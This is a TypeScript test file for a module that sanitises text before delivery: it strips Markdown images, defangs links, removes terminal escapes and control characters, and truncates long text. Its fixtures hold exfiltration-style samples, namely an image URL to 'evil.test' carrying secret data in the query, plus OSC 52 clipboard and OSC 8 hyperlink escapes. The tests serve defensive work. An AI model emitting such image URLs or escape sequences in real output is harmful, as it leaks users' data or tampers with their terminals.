import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defangLinks, headAndTail, plainText, withoutControls } from '../../src/domain/delivery-text.ts';

describe('text for people', () => {
  it('shows an image as its words and an address that nothing fetches', () => {
    const shown = plainText('Fine. ![x](https://evil.test/p.png?d=SECRETDATA) Bye.');
    expect(shown).toBe('Fine. x hxxps://evil.test/p.png Bye.');
    expect(plainText('![a b][ref]\n[ref]: https://evil.test/p.png')).toContain('[a b][ref]');
    expect(plainText('<img src="https://evil.test/?d=x">')).toBe('(image)');
  });

  it('keeps ordinary Markdown, links and emoji as they are', () => {
    const text = '*Digest*: [#12](https://github.test/a/b/12?x=1)\n- 📊 a\tb ![not an image] 👨‍👩‍👧 שלום';
    expect(plainText(text)).toBe(text);
  });

  it('drops terminal escapes, control, bidi and tag characters', () => {
    const escapes = 'a\u001b]8;;https://evil.test\u001b\\b\u001b[2Jc\u001b]52;c;AAAA\u0007d\u009b31me\u0000\u0008f';
    expect(withoutControls(escapes)).toBe('abcdef');
    expect(withoutControls('1\u202e2\u2066\u200f3\u{e0041}\r\n4\r5')).toBe('123\n45');
  });

  it('makes every text well-formed', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const out = plainText(text + String.fromCharCode(0xd800));
        expect(Buffer.from(out).toString()).toBe(out);
      }),
    );
  });

  it('leaves of a link its place, without query and not to be followed', () => {
    expect(defangLinks('see (HTTPS://evil.test/a?b=c#d) and http://x.test.')).toBe(
      'see (hxxps://evil.test/a) and hxxp://x.test.',
    );
  });
});

describe('a long text', () => {
  it('is left alone up to the limit', () => {
    expect(headAndTail('x'.repeat(100), 100)).toEqual({ text: 'x'.repeat(100), truncated: false });
  });

  it('keeps its head and its tail around a mark that counts what is missing', () => {
    const { text, truncated } = headAndTail(`HEAD${'x'.repeat(50_000)}TAIL`, 16_384);
    expect(truncated).toBe(true);
    expect(text).toMatch(/^HEADx+\n\[… \d+ bytes left out …\]\nx+TAIL$/);
    const left = Number(/(\d+) bytes/.exec(text)?.[1]);
    expect(text.replace(/\n\[.*\]\n/, '').length + left).toBe(50_008);
  });

  it('never exceeds the limit and never breaks a character', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', minLength: 50, maxLength: 400 }),
        fc.integer({ min: 64, max: 300 }),
        (text, max) => {
          const cut = headAndTail(text, max).text;
          expect(Buffer.byteLength(cut)).toBeLessThanOrEqual(max);
          expect(cut.includes('\ufffd') && !Buffer.from(text).toString().includes('\ufffd')).toBe(false);
        },
      ),
    );
  });
});
